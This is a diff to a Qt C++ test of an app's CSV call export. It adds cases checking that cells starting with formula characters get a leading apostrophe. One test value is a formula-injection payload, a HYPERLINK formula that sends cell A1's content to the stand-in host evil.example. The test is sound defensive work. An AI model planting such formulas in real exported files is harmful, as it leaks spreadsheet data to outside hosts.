@@ -37,25 +37,48 @@ private slots:
     void hostileTextsRoundTrip_data() {
         QTest::addColumn<QString>("title");
         QTest::addColumn<QString>("comments");
+        // What the file holds by default: a text that a spreadsheet would run as a formula
+        // gets a leading apostrophe (empty: as stored).
+        QTest::addColumn<QString>("guardedTitle");
+        QTest::addColumn<QString>("guardedComments");
         QTest::newRow("quotes and commas") << "He said \"no\", twice"
-                                           << "a,b,,\"c\"";
+                                           << "a,b,,\"c\"" << QString() << QString();
         QTest::newRow("line breaks") << "first\nsecond"
-                                     << "one\r\ntwo\rthree\n";
+                                     << "one\r\ntwo\rthree\n"
+                                     << QString() << QString();
         QTest::newRow("emoji and accents") << "Müller 😀 ñ"
-                                           << "日本語 🎉";
-        QTest::newRow("long comments") << "long" << QString(100000, QChar(0x00E9)) + "\"x\"";
+                                           << "日本語 🎉" << QString() << QString();
+        QTest::newRow("long comments")
+            << "long" << QString(100000, QChar(0x00E9)) + "\"x\"" << QString() << QString();
         QTest::newRow("empty and blanks") << ""
-                                          << "  padded  ";
+                                          << "  padded  " << QString() << QString();
+        QTest::newRow("formula and at sign")
+            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+            << "@SUM(A1:A9)"
+            << "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+            << "'@SUM(A1:A9)";
+        QTest::newRow("plus and minus") << "+1+1"
+                                        << "-2+3, said he"
+                                        << "'+1+1"
+                                        << "'-2+3, said he";
+        QTest::newRow("tab and carriage return") << "\t=1"
+                                                 << "\r=2\n"
+                                                 << "'\t=1"
+                                                 << "'\r=2\n";
+        QTest::newRow("formula later on") << "a=1+1"
+                                          << " =2" << QString() << QString();
     }
     void hostileTextsRoundTrip() {
         QFETCH(QString, title);
         QFETCH(QString, comments);
+        QFETCH(QString, guardedTitle);
+        QFETCH(QString, guardedComments);
         Exec("insert into Calls (Title,Caller,[Assigned To],[Opened By],Comments,[Opened Date],"
              "[Due Date],[Resolved Date]) values (" +
              quoted(title) + ",1,1,1," + quoted(comments) +
              ",'2024-01-01 10:30:00','2024-01-02',NULL)");
         const QString path = m_env->dataHome() + "/calls.csv";
-        QVERIFY(ExportAllCalls(SharedConnection(), path));
+        QVERIFY(ExportAllCalls(SharedConnection(), path, {}, Csv::Text::AsStored));
         const QList<QStringList> records = ReadCsv(contentOf(path));
         QCOMPARE(records.size(), 2);
         QCOMPARE(records[0],
@@ -77,6 +100,12 @@ private slots:
                                       comments};
         QCOMPARE(records[1], expected);
         QVERIFY(!QFile::exists(path + ".part"));
+
+        QVERIFY(ExportAllCalls(SharedConnection(), path));
+        QStringList guarded = expected;
+        guarded[1] = guardedTitle.isEmpty() ? title : guardedTitle;
+        guarded[12] = guardedComments.isEmpty() ? comments : guardedComments;
+        QCOMPARE(ReadCsv(contentOf(path)).at(1), guarded);
     }
 
     void everyRowWithProgressAndCancel_data() {
